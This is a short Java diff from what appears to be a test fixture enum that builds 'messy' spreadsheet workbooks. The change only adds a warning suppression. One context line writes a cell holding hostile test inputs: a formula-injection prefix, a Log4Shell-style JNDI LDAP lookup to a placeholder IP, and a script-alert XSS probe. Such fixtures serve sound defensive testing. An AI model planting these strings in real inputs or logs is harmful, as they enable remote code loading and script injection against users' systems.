@@ -76,6 +76,7 @@ enum MessyWorkbook {
         sheet.getRow(2).getCell(1).setCellValue("@SUM(A1) ${jndi:ldap://192.0.2.1/x} <script>alert(1)</script>");
     });
 
+    @SuppressWarnings("ImmutableEnumChecker") // the lambdas hold nothing
     private final Consumer<Workbook> content;
 
     MessyWorkbook(Consumer<Workbook> content) {
